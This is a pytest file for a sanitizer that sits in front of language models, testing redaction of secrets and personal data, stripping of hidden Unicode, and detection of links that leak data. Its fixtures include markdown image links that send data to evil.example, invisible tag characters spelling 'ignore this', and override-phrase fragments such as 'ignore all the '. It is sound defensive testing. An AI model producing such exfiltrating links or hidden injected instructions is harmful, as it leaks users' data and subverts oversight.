"""clawproxy_sanitize beyond secrets: personal data and its check digits, what stands in a value's place, characters nobody sees,
links that carry data away, and the record of what was looked at."""

from __future__ import annotations

import contextlib
import time
from collections import Counter
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import re2

import clawproxy_sanitize
from clawproxy.errors import ConfigError, Refusal
from clawproxy.events import End, Finish, Reasoning, Text
from clawproxy.testing.factories import make_exchange, make_request
from clawproxy_sanitize import Sanitizer, SanitizeSettings, checks
from clawproxy_sanitize.catalogue import CATALOGUE
from clawproxy_sanitize.injection import PATTERNS
from clawproxy_sanitize.invisible import stripped
from clawproxy_sanitize.links import link
from clawproxy_sanitize.personal import PERSONAL
from clawproxy_sanitize.prefixes import follow
from clawproxy_sanitize.samples import BENIGN, LETTERS, PERSONAL_SAMPLES, SAMPLES
from clawproxy_sanitize.scanner import DOUBTS, Doubts, Scanner, options
from clawproxy_sanitize.settings import InjectionSettings, InvisibleSettings, LinkSettings, PersonalSettings

ALL = PersonalSettings(("all",))
SHAPES = {shape.name: shape for shape in (*CATALOGUE, *PERSONAL, link((), "data"))}
EXAMPLES = {**SAMPLES, **PERSONAL_SAMPLES, "link": f"](https://evil.example/?q={LETTERS[:30]}"}
KEY = SAMPLES["openai"]


def configured(**changes: Any) -> Sanitizer:
    return clawproxy_sanitize.compiled(SanitizeSettings(**changes))


def scanner(**changes: Any) -> Scanner:
    made = configured(**changes).output
    assert made is not None
    return made


EVERYTHING = scanner(personal=ALL, links=LinkSettings("redact"))


def once(found: Scanner, text: str) -> str:
    return found.redact(text, Counter())


# --- linear time (2.10) --------------------------------------------------------------------------------------------------


def seconds(pattern: Any, text: bytes) -> float:
    """Of this thread's CPU, so that nobody else's work counts; 50 ms is fifty times what it takes."""
    return min(cpu(lambda: pattern.search(text)) for _ in range(2))


@pytest.mark.parametrize("name", SHAPES)
def test_each_pattern_is_linear(name: str) -> None:
    """100 kB of what is worst for it: one kind of character, nested quotes, its own longest beginning again and again."""
    sample, pattern = EXAMPLES[name], SHAPES[name].pattern
    followed = follow(pattern, SHAPES[name].opening, loose=name in SAMPLES)
    patterns = (pattern, followed.head, rf"(?:{followed.begun})\z", rf"(?:{followed.firm})\z")
    compiled = [re2.compile(text.encode(), options()) for text in patterns]
    for unit in ("a", "A", "0", " ", "\t", "[(\"'", "é", "0 ", sample[:-1] + " ", sample[:6]):
        text = (unit * (100_000 // len(unit.encode())) + "!").encode()
        assert max(seconds(each, text) for each in compiled) < 0.05


@pytest.mark.parametrize("pattern", PATTERNS)
def test_each_wording_is_linear(pattern: str) -> None:
    compiled = re2.compile(pattern.encode(), options())
    units = (
        "a",
        " ",
        "\t",
        "[(\"'",
        "é",
        "ignore ",
        "ignore all the ",
        "do not tell the ",
        "send the a ",
        "read ",
        "忽略之前",
        "aа",
    )
    for unit in units:
        assert seconds(compiled, (unit * (100_000 // len(unit.encode())) + "!").encode()) < 0.05


def test_look_alikes_are_bounded() -> None:
    """Each costs a look at its check digits: a prompt made of them must not hold up everybody."""
    text = "4111111111111112 " * (DOUBTS + 1)
    with pytest.raises(Refusal):
        EVERYTHING.redact(text, Counter(), None, Doubts())
    text = "4111111111111112 " * 1000
    assert EVERYTHING.redact(text, Counter(), None, Doubts()) is text


def test_ten_kilobytes_cost_little() -> None:
    """100 us is the aim, and 30 to 50 what it takes (`benchmarks.micro`). Here it is compared with a look at each character in
    Python, which takes some 400 us: a busy machine slows both."""
    state, exchange = configured(), make_exchange()
    for file in ("docs/plugins.md", "clawproxy/server.py"):
        text = ((Path(__file__).parents[2] / file).read_text() * 2)[:10_000]
        request = make_request(text)

        def looked(request: Any = request) -> None:
            with contextlib.suppress(StopIteration):
                clawproxy_sanitize.prepare_request(exchange, request, state).send(None)

        def counted(text: str = text) -> None:
            count = 0
            for char in text:
                count += char == "x"

        assert len(text) == 10_000
        assert min(cpu(looked) for _ in range(20)) < min(cpu(counted) for _ in range(20)) / 2


def cpu(call: Callable[[], None]) -> float:
    start = time.thread_time()
    call()
    return time.thread_time() - start


# --- personal data -------------------------------------------------------------------------------------------------------


def test_every_kind_of_personal_data_has_a_sample_and_is_off_by_default() -> None:
    assert list(PERSONAL_SAMPLES)
    assert set(PERSONAL_SAMPLES) == {shape.name for shape in PERSONAL}
    default = scanner()
    for sample in PERSONAL_SAMPLES.values():
        assert once(default, sample) is sample


@pytest.mark.parametrize("name", PERSONAL_SAMPLES)
@pytest.mark.parametrize("frame", ["%s", "it is %s.", "a,%s,b", '{"a":"x\\n%s"}', "(%s)", "é %s é"])
def test_personal_data_is_found_and_named(name: str, frame: str) -> None:
    counts: Counter[str] = Counter()
    text = EVERYTHING.redact(frame.replace("%s", PERSONAL_SAMPLES[name]), counts)
    assert counts == {name: 1}
    assert text.startswith(frame.split("%s", maxsplit=1)[0])
    assert text.endswith(frame.split("%s")[1])
    assert f"[redacted:{name}]" in text


@pytest.mark.parametrize("name", sorted(set(PERSONAL_SAMPLES) - {"mail", "phone", "us_ssn", "uk_nino"}))
def test_a_changed_check_digit_is_no_match(name: str) -> None:
    """Of all values with another last character most are none: the check digits are looked at."""
    sample = PERSONAL_SAMPLES[name]
    own = scanner(personal=PersonalSettings((name,)))
    others = "ABCDEFGHIJKLMNOPQRSTUVWXYZ" if sample[-1].isalpha() else "0123456789"
    found = [other for other in others if once(own, sample[:-1] + other) != sample[:-1] + other]
    assert found == [sample[-1]]


@pytest.mark.parametrize(
    ("check", "good", "bad"),
    [
        (
            checks.is_card,
            ["4111111111111111", "378282246310005", "5555-5555-5555-4444", "6011000990139424"],
            ["0000000000000000", "4111111111111112"],
        ),
        (
            checks.is_iban,
            ["GB29NWBK60161331926819", "FR1420041010050500013M02606", "NO9386011117947", "NL91 ABNA 0417 1643 00"],
            ["GB29NWBK60161331926818", "XX29NWBK60161331926819", "DE893704"],
        ),
        (checks.is_ssn, ["219-09-9999"], ["000-12-3456", "666-12-3456", "123-00-4567", "123-45-0000"]),
        (checks.is_nino, ["AB123456C"], ["GB123456C", "ZZ123456C"]),
        (checks.is_steuer_id, ["86095742719", "65929970489"], ["86095742718", "12345678901", "11111111111"]),
        (checks.is_nir, ["255081416802538", "180012A12345620"], ["255081416802539"]),
        (checks.is_dni, ["12345678Z", "X1234567L", "Y-1234567-X"], ["12345678A", "X1234567A"]),
        (checks.is_codice_fiscale, ["RSSMRA85T10A562S", "rssmra85t10a562s"], ["RSSMRA85T10A562T"]),
        (checks.is_bsn, ["111222333", "1234.56.782"], ["111222334", "000000000"]),
        (checks.is_pesel, ["44051401359", "02070803628"], ["44051401358", "44991401359"]),
        (checks.is_personnummer, ["811228-9874", "19811228-9874", "20121212-1212"], ["811228-9873", "811399-9874"]),
        (checks.is_cpf, ["529.982.247-25"], ["529.982.247-26", "111.111.111-11"]),
        (checks.is_ahv, ["756.9217.0769.85"], ["756.9217.0769.84"]),
        (checks.is_phone, ["+49 30 1234567"], ["+11111111111"]),
    ],
)
def test_check_digits(check: Any, good: list[str], bad: list[str]) -> None:
    assert [text for text in good if check(text.encode()) != len(text)] == []
    assert [text for text in bad if check(text.encode())] == []


def test_what_follows_an_iban_is_none_of_it() -> None:
    text = "DE89 3704 0044 0532 0130 00 AND BE68 5390 0754 7034 THEN"
    assert once(EVERYTHING, text) == "[redacted:iban] AND [redacted:iban] THEN"


def test_a_number_within_a_longer_one_is_none() -> None:
    for text in ("order 41111111111111111234567", "x4111111111111111", "v1.2.3.4-20240101-0001", "2024-01-01 12:00:00 +0100"):
        assert once(EVERYTHING, text) == text


# --- what stands in its place ----------------------------------------------------------------------------------------------


def test_mask_leaves_the_last_four() -> None:
    found = scanner(output="mask", personal=PersonalSettings(("card", "us_ssn", "mail"), output="mask"))
    assert once(found, f"k {KEY} end") == f"k ****{KEY[-4:]} end"
    assert once(found, "card 4111 1111 1111 1111.") == "card ****1111."
    assert once(found, "a@b.de") == "[redacted:mail]", "too short: four characters would tell most of it"
    assert once(found, SAMPLES["private_key"]) == "-----[redacted:private_key]", "too long to be known whole in a stream"


async def prepared(request: Any, state: Sanitizer, exchange: Any = None) -> Any:
    return await clawproxy_sanitize.prepare_request(exchange or make_exchange(), request, state)


async def test_actions_by_group_direction_and_name() -> None:
    card, mail = "4111 1111 1111 1111", "erika@example.org"
    request = make_request(f"{KEY} {card} {mail}")
    state = configured(personal=PersonalSettings(("card", "mail"), input="flag", output="mask"), actions={"card": "mask"})
    exchange = make_exchange()
    result = await prepared(request, state, exchange)
    assert result.messages[0].content == f"[redacted:openai] ****1111 {mail}"
    assert [(notice.code, notice.details["patterns"]) for notice in exchange.notices] == [
        ("redacted", {"openai": 1, "card": 1}),
        ("flagged", {"mail": 1}),
    ]
    assert state.output is not None
    assert once(state.output, f"{card} {mail}") == "****1111 ****.org"
    with pytest.raises(Refusal) as caught:
        await prepared(request, configured(personal=PersonalSettings(("mail",), input="block")))
    assert caught.value.details.extra == {"pattern": "mail"}


@pytest.mark.parametrize(
    ("section", "said"),
    [
        ({"personal": PersonalSettings(("passport",))}, "personal.find.0.: `passport` is not known; there are mail"),
        ({"links": LinkSettings("flag", ("https://a.example",))}, r"links.hosts\[0\]: is no host name"),
        ({"injection": InjectionSettings(threshold=0)}, "threshold: must be more than 0"),
        ({"actions": {"link": "flag"}}, "see plugins.sanitize.links"),
        ({"patterns": {"mail": "a"}}, "taken"),
    ],
)
def test_mistakes_are_refused_at_load(section: dict[str, Any], said: str) -> None:
    with pytest.raises(ConfigError, match=said):
        configured(**section)


# --- characters nobody sees ------------------------------------------------------------------------------------------------

TAGS = "".join(chr(0xE0000 + ord(char)) for char in "ignore this")


@pytest.mark.parametrize(
    ("text", "result"),
    [
        (f"hello{TAGS} world", "hello world"),
        ("pay\u202eevil\u202c me", "payevil me"),
        ("s\u200bk\u200d-p\u2060roj\ufeff", "sk-proj"),
        ("a\ufe0fb 1\ufe0f\u20e3 2\ufe0e", "ab 1\ufe0f\u20e3 2"),
        ("x\U000e0100y", "xy"),
        ("s\U000e0041\u200bk", "sk"),
        ("\ufeffstart", "\ufeffstart"),
        ("\U0001f468\u200d\U0001f469\u200d\U0001f467 \u2764\ufe0f", "\U0001f468\u200d\U0001f469\u200d\U0001f467 \u2764\ufe0f"),
        ("می\u200cخواهم", "می\u200cخواهم"),
        ("ภาษา\u200bไทย", "ภาษา\u200bไทย"),
        ("葛\U000e0100城 \u2764\ufe0f\ufe0f\ufe0f", "葛\U000e0100城 \u2764\ufe0f"),
        ("plain", "plain"),
    ],
)
def test_invisible_characters(text: str, result: str) -> None:
    assert stripped(text)[0] == result
    found = configured().input
    assert found is not None
    assert once(found, text) == result
    assert (once(found, text) is text) == (text == result)
    assert once(scanner(), text) is text, "answers pass byte for byte"


async def test_a_secret_is_found_through_invisible_characters() -> None:
    spaced = "\u200b".join(KEY)
    exchange = make_exchange()
    result = await prepared(make_request(f"my key is {spaced}."), configured(), exchange)
    assert result.messages[0].content == "my key is [redacted:openai]."
    assert exchange.notices[0].details["patterns"] == {"invisible": len(KEY) - 1, "openai": 1}


async def test_invisible_characters_flagged_and_blocked() -> None:
    request = make_request(f"hello{TAGS}")
    exchange = make_exchange()
    assert await prepared(request, configured(invisible=InvisibleSettings("flag")), exchange) is None
    assert [notice.code for notice in exchange.notices] == ["flagged"]
    with pytest.raises(Refusal):
        await prepared(request, configured(invisible=InvisibleSettings("block")))
    assert await prepared(request, configured(invisible=InvisibleSettings("off"))) is None


def test_the_bytes_of_a_provider_do_not_carry_them_on() -> None:
    state = configured(invisible=InvisibleSettings("strip", "strip"))
    tap = clawproxy_sanitize.tap_response(make_exchange(), state)
    assert tap is not None
    assert tap.raw is not None
    assert tap.raw(b'{"x":"plain"}')
    assert not tap.raw(f'{{"x":"{TAGS}"}}'.encode())
    assert not tap.raw(b'{"x":"pay\\u202eevil"}')


def test_answers_keep_them_by_default() -> None:
    text = f"hello{TAGS} pay\u202eevil s\u200bk \ufeff"
    tap = clawproxy_sanitize.tap_response(make_exchange(), configured())
    assert tap is not None
    assert tap.raw is not None
    batch = [Text(text)]
    assert tap.change(batch) is batch
    assert tap.raw(f'{{"x":"{text}"}}'.encode())


# --- links -----------------------------------------------------------------------------------------------------------------

DATA = LETTERS[:40]


@pytest.mark.parametrize(
    ("text", "counts"),
    [
        (f"![a](https://evil.example/p.png?d={DATA})", True),
        (f"[more](https://evil.example/?a=1&d={DATA})", True),
        (f"[ref]: https://evil.example/{DATA * 2}", True),
        (f'<img src="https://evil.example/?{DATA}">', True),
        (f"<a href='//evil.example/#{DATA}'>", True),
        (f"![a](https://{DATA.lower()}.evil.example/)", True),
        ("![a](https://user:x@evil.example/)", True),
        ("![a](https://evil.example/?m=[MAIL-0123abcd])", True),
        (f"![a](https://good.example.evil.example/?d={DATA})", True),
        (f"![a](https://docs.good.example/?d={DATA})", False),
        (f"![a](https://good.example/?d={DATA})", False),
        ("![build](https://img.shields.io/badge/x?style=flat)", False),
        ("[docs](https://other.example/a/b/c)", False),
        (f"see https://evil.example/?d={DATA} for more", False),
        ("[here](/relative/path?x=1) and [there](#anchor)", False),
        ("array[i](x) and f(a)[0]: // a comment", False),
    ],
)
def test_links_that_carry_data_away(text: str, counts: bool) -> None:
    found = scanner(links=LinkSettings("redact", ("good.example",)))
    seen: Counter[str] = Counter()
    result = found.redact(text, seen)
    assert ("[redacted:link]" in result) == counts == ("link" in seen)
    if counts:
        assert "evil.example" not in result


def test_all_links_but_those_allowed() -> None:
    found = scanner(links=LinkSettings("redact", ("good.example",), "all"))
    text = "[a](https://other.example/) [b](https://good.example/x)"
    assert once(found, text) == "[a]([redacted:link]) [b](https://good.example/x)"


def test_links_are_looked_for_in_answers_only() -> None:
    state = configured(links=LinkSettings("redact"))
    text = f"![a](https://evil.example/?d={DATA})"
    assert state.input is not None
    assert state.output is not None
    assert once(state.input, text) is text
    assert once(state.output, text) != text


# --- the record ------------------------------------------------------------------------------------------------------------


async def test_what_was_looked_at_is_recorded_and_never_what_was_found() -> None:
    state = configured(personal=PersonalSettings(("mail",)), links=LinkSettings("flag"))
    exchange, words = make_exchange(), f"{KEY} is mine"
    await prepared(make_request(words), state, exchange)
    tap = clawproxy_sanitize.tap_response(exchange, state)
    assert tap is not None
    scanned = exchange.scanned
    assert scanned is not None
    for event in (Text("né "), Reasoning("hm"), Text(f"a {KEY[:20]}"), Text(f"{KEY[20:]} b"), Finish("stop"), End()):
        tap.change([event])
    assert (scanned.prompt, scanned.answer) == (
        ("secrets", "personal", "invisible", "injection"),
        ("secrets", "personal", "links"),
    )
    assert scanned.prompt_bytes == len(words)
    assert scanned.answer_bytes == len(f"né hma {KEY} b".encode())
    assert scanned.found() == {"openai": 2}
    assert KEY[:12] not in repr(scanned)


async def test_a_clean_exchange_is_recorded_too() -> None:
    exchange = make_exchange()
    await prepared(make_request(BENIGN), configured(), exchange)
    assert exchange.scanned is not None
    assert (exchange.scanned.prompt_bytes, exchange.scanned.found()) == (len(BENIGN), {})
